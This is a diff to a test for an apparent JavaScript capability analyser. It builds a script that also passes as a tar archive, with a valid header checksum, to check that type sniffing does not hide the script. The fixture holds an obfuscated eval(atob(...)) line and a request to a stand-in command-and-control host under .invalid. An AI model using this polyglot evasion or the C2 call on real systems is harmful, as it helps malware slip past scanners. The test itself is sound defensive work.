@@ -127,11 +127,14 @@ describe('when a declaration file declares constants without values', () => {
 
 describe('when a script is also a tar archive (a polyglot)', () => {
   it('is still analysed as the script Node would run', async () => {
-    // `ustar` at offset 257 makes the bytes a tar header to the type sniffer; for JavaScript it
-    // sits in a comment. Inert: the host is under .invalid.
+    // `ustar` at offset 257 and a checksum that adds up make the bytes a tar header to the type
+    // sniffer; for JavaScript both sit in a comment. Inert: the host is under .invalid.
     const first = "eval(atob('Y29uc29sZS5sb2coImluZXJ0Iik='));//";
-    const header = `${first}${' '.repeat(257 - first.length)}ustar${' '.repeat(512 - 262)}`;
-    const source = `${header}\nrequire('https').get('https://c2.invalid/x');\n`;
+    const block = Buffer.from(`${first}${' '.repeat(257 - first.length)}ustar${' '.repeat(512 - 262)}`);
+    let sum = 0;
+    for (const byte of block) sum += byte; // the checksum field counts as spaces, which it still is
+    block.write(`${sum.toString(8).padStart(7, '0')} `, 148);
+    const source = `${block.toString()}\nrequire('https').get('https://c2.invalid/x');\n`;
     const node = memoryNode(bytes(source), { name: 'index.js' });
     expect(node.type).toBe('tar');
     expect(jsCapabilitiesAnalyzer.accepts(node)).toBe(true);
